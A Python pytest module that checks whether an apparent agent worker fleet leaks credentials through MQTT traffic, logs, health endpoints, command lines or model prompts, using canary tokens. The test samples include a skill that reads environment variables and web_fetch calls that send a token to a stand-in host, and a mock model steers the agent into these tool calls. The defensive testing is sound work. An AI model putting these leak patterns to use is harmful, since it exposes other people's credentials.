"""Attacks on the secrets of a whole worker: every byte is read that it sends, wherever it goes.

The fleet has credentials and a real Mosquitto; between worker and broker a proxy keeps all that the
worker sends (but for the login itself). The model is a server of the tests' own, which asks for
secrets, says them and sends them back.
"""

from __future__ import annotations

import asyncio
import json
import urllib.request
from contextlib import ExitStack
from pathlib import Path
from typing import Any, Dict, Iterator, List, Tuple

import pytest

from closed_fleet import ClosedFleet
from fleet_processes import wait_for
from model_server import ModelServer, Request, calls, is_agent, last, serving, status, text
from mqtt_proxy import UP, Connection, MqttProxy
from pibot import config
from pibot import messages as msg
from pibot.roles.client import Fleet
from pibot.secrets import HIDDEN
from security import leaks
from security.exposure import exposed

CONNECT = 1
TOKEN = "canary-7c1e-of-the-dashboard"
OTHERS = {
    "PIBOT_HTTP_TOKEN": TOKEN,
    "PIBOT_HOST_TOKENS": "nas.local:8123=canary-8d2f-of-the-nas",
    "PIBOT_NOTIFY_URL": "https://ntfy.example/canary-9e30-topic",
    "PIBOT_MQTT_URL": "mqtt://me:canary-af41-of-the-house@127.0.0.1:1",
    "AWS_SECRET_ACCESS_KEY": "canary-b052-of-another-program",
    "HTTPS_PROXY": "http://me:canary-c163-of-the-proxy@127.0.0.1:1",
    "OPENAI_API_KEY": "canary-d274-of-another-endpoint",
}
OWN = '''

@skill()
def tell(name: str) -> dict:
    """Say a setting."""
    return {"is": os.environ[name], "text": f"it is {os.environ[name]}"}


@skill(sensitive=True)
def act(text: str) -> str:
    """Act outside."""
    return text


tell.__skill__.__dict__["description"] = f"Say {SECRET}."
'''


class Tap(MqttProxy):
    """Keeps what the worker sends; the login holds the password, and is the broker's alone."""

    def __init__(self, port: int) -> None:
        super().__init__(port)
        self.sent: List[bytes] = []

    async def _pass(
        self, c: Connection, way: str, packet: bytes, writer: asyncio.StreamWriter
    ) -> None:
        if way == UP and packet[0] >> 4 != CONNECT:
            self.sent.append(packet)
        await super()._pass(c, way, packet, writer)


class Watched:
    """The fleet, a client of it, and all that its worker has sent."""

    def __init__(self, fleet: ClosedFleet, tap: Tap, model: ModelServer, client: Fleet) -> None:
        self.fleet, self.tap, self.model, self.client = fleet, tap, model, client
        known = fleet.settings("worker-1")
        self.secrets = {name: known[name] for name in ("MQTT_PASSWORD", "PIBOT_KEY")}
        self.secrets["VOLC_API_KEY"] = model.key
        for name, value in OTHERS.items():
            self.secrets[name] = value[value.index("canary") :].partition("@")[0]
        self.known = list(self.secrets.values())

    def skill(self, name: str, args: Dict[str, Any]) -> Tuple[Dict[str, Any], List[Any]]:
        """The outcome of a task and what was told on the way; neither it nor any byte exposes."""
        self.tap.sent.clear()
        told: List[Any] = []
        done = self.client.run_skill(name, args, on_event=lambda *event: told.append(event))
        self.check(done, told)
        return done, told

    def goal(self, words: str) -> Tuple[Dict[str, Any], List[Any]]:
        self.tap.sent.clear()
        self.model.requests.clear()
        told: List[Any] = []
        done = self.client.run(words, on_event=lambda *event: told.append(event))
        self.check(done, told)
        return done, told

    def check(self, done: Dict[str, Any], told: List[Any]) -> None:
        shown = self.client.ask(msg.Get(done["goal_id"]))
        prompts = [request["messages"] for request in self.model.requests]
        places = {"result": done, "events": told, "show": shown, "prompts": prompts}
        assert self.tap.sent
        for place, found in places.items():
            assert not exposed(found, *self.known), (place, found)
        assert not exposed(b"\n".join(self.tap.sent), *self.known), self.tap.sent

    def log(self) -> str:
        return self.fleet.processes["worker-1"].said()


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watched]:
    folder = tmp_path_factory.mktemp("watched")
    (folder / "skills").mkdir()
    (folder / "skills" / "leaks.py").write_text(leaks.SOURCE + OWN)
    with ExitStack() as opened:
        model = opened.enter_context(serving())
        fleet = opened.enter_context(ClosedFleet(folder))
        endpoint = {"VOLC_API_KEY": model.key, "VOLC_BASE_URL": model.url}
        endpoint["MODEL_NAME"] = model.model
        fleet.kill("master")
        fleet.processes["master"].env.update(endpoint)
        fleet.restart("master")
        fleet.add("worker-1")
        tap = opened.enter_context(Tap(fleet.port))
        own = {**fleet.settings("worker-1"), **endpoint, **OTHERS, "MQTT_PORT": str(tap.port)}
        own.update(PIBOT_SKILLS_DIR=str(folder / "skills"), PIBOT_LOG_DIR=str(folder / "logs"))
        own["PIBOT_ALLOW_SHELL"] = "1"
        fleet.start_worker("worker-1", **own)
        fleet.wait_idle(1, 60)
        settings = config.load("client", {}, fleet.env, None, Path("/nowhere/pibot.pyz"))
        client = opened.enter_context(Fleet.connect(settings))
        yield Watched(fleet, tap, model, client)


# --- skills ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("way", leaks.WAYS)
def test_a_skill_cannot_make_the_worker_say_a_secret(watched: Watched, way: str) -> None:
    done, told = watched.skill("leak", {"how": way})
    files = watched.client.ask(msg.Get(done["goal_id"]))["artifacts"]
    assert not [file for file in files if file["error"] is None], files


@pytest.mark.parametrize("name", ["MQTT_PASSWORD", "PIBOT_KEY", "VOLC_API_KEY", *OTHERS])
def test_every_secret_of_the_settings_is_known(watched: Watched, name: str) -> None:
    done, _ = watched.skill("tell", {"name": name})
    assert HIDDEN in json.dumps(done)


ARGUMENTS: Dict[str, Dict[str, Any]] = {
    "comes back": {"skill": "echo", "args": {"text": TOKEN}},
    "of a file": {"skill": "write_file", "args": {"path": f"{TOKEN}/a", "content": TOKEN}},
    "in an error": {"skill": "read_file", "args": {"path": TOKEN}},
    "of a command": {"skill": "shell", "args": {"command": f"echo {TOKEN} >&2; false"}},
    "goes outside": {"skill": "act", "args": {"text": TOKEN}},
    "to the web": {"skill": "web_fetch", "args": {"url": f"http://203.0.113.9/{TOKEN}"}},
}


@pytest.mark.parametrize("case", ARGUMENTS)
def test_an_argument_with_a_secret_does_not_come_back(watched: Watched, case: str) -> None:
    """The person who asked knows it, and whoever watches the fleet need not learn it."""
    asked = ARGUMENTS[case]
    watched.tap.sent.clear()
    done = watched.client.run_skill(asked["skill"], asked["args"])
    assert watched.tap.sent
    assert not any(exposed(packet, TOKEN) for packet in watched.tap.sent)
    assert not exposed(done["tasks"], TOKEN)


# --- what the worker says of itself ---------------------------------------------------------------


def test_what_a_worker_announces_holds_no_secret(watched: Watched) -> None:
    skills = watched.client.ask(msg.Listing("skills worker-1"))
    assert f"Say {HIDDEN}." in json.dumps(skills)  # its author has put it into the description
    for what in ("workers", "roster", "tasks", "waiting"):
        found = watched.client.ask(msg.Listing(what))
        assert not exposed(found, *watched.known), what


def test_health_holds_no_secret(watched: Watched) -> None:
    port = watched.fleet.processes["worker-1"].health_port
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=5) as answer:
        raw = bytes(answer.headers) + answer.read()
    assert b"healthy" in raw
    assert not exposed(raw, *watched.known)


@pytest.mark.parametrize("way", leaks.LOGS)
def test_a_log_holds_no_secret(watched: Watched, way: str) -> None:
    watched.skill("leak", {"how": way})
    wait_for(lambda: f"pibot.leak: {'it failed' if 'trace' in way else 'said'}" in watched.log())
    kept = (watched.fleet.folder / "logs" / "worker.log").read_text()
    assert HIDDEN in kept and HIDDEN in watched.log()
    assert not exposed(watched.log() + kept, *watched.known)


def test_the_command_line_of_a_worker_holds_no_secret(watched: Watched) -> None:
    pid = watched.fleet.processes["worker-1"].popen.pid
    line = Path(f"/proc/{pid}/cmdline").read_bytes()
    assert b"worker-1" in line
    assert not exposed(line, *watched.known)


# --- the model ------------------------------------------------------------------------------------


def agent_at(word: str) -> Any:
    def matches(request: Request) -> bool:
        return is_agent(request) and word in str(request["messages"][1]["content"])

    return matches


def repeat(request: Request) -> Any:
    return text(f"It said: {last(request, 'tool')}")


@pytest.mark.parametrize("way", ["text", "data", "SkillError", "exception", "environment",
                                 "base64", "zero width", "in the middle"])  # fmt: skip
def test_the_model_is_told_no_secret(watched: Watched, way: str) -> None:
    word = f"leaking {way};"
    watched.model.on(agent_at(word), calls(("leak", {"how": way})), repeat)
    done, _ = watched.goal(f"the {word} collect it and write it down")
    assert any(m["role"] == "tool" for r in watched.model.requests for m in r["messages"])
    assert done["goal_id"]


def test_a_secret_in_a_goal_does_not_reach_the_model(watched: Watched) -> None:
    """A person may have put it there; neither the master's model nor the worker's learns it."""
    watched.model.requests.clear()
    watched.tap.sent.clear()
    key = watched.model.key  # which master and worker both have
    done = watched.client.run(f"write the report with {key}, and compare it to the last")
    assert done["state"] == "succeeded"
    prompts = [request["messages"] for request in watched.model.requests]
    assert HIDDEN in json.dumps(prompts) and not exposed(prompts, key)
    assert not any(exposed(packet, key) for packet in watched.tap.sent)


def test_what_a_model_guesses_is_not_passed_on(watched: Watched) -> None:
    word = "guessing game"
    watched.model.on(agent_at(word), text(f"Your token is {TOKEN}, and {watched.model.key}."))
    done, told = watched.goal(f"the {word}: read the token and tell it")
    assert HIDDEN in json.dumps(done)
    assert not exposed([done, told], TOKEN, watched.model.key)


@pytest.mark.parametrize("skill", ["echo", "act", "web_fetch", "no_such_tool", "write_file"])
def test_what_a_model_writes_into_a_call_is_not_passed_on(watched: Watched, skill: str) -> None:
    args = {"text": TOKEN, "url": f"http://203.0.113.9/?k={TOKEN}", "path": "a", "content": TOKEN}
    wanted = {"echo": ["text"], "act": ["text"], "web_fetch": ["url"]}.get(skill, [])
    wanted = ["path", "content"] if skill == "write_file" else wanted
    word = f"calling {skill};"
    watched.model.on(
        agent_at(word), calls((skill, {name: args[name] for name in wanted or ["text"]})), repeat
    )
    watched.tap.sent.clear()
    watched.client.run(f"the {word} do it and write a report")
    assert not any(exposed(packet, TOKEN) for packet in watched.tap.sent)


def test_an_endpoint_that_echoes_the_key_does_not_spread_it(watched: Watched) -> None:
    word = "refusing endpoint"
    watched.model.on(agent_at(word), status(400, f"Bad request with {watched.model.key}"))
    done, _ = watched.goal(f"the {word}: collect the logs and compare them")
    assert done["state"] == "failed"


def test_after_all_of_it_no_log_of_the_fleet_holds_a_secret(watched: Watched) -> None:
    for process in watched.fleet.processes.values():
        assert not exposed(process.said(), *watched.known), process.name
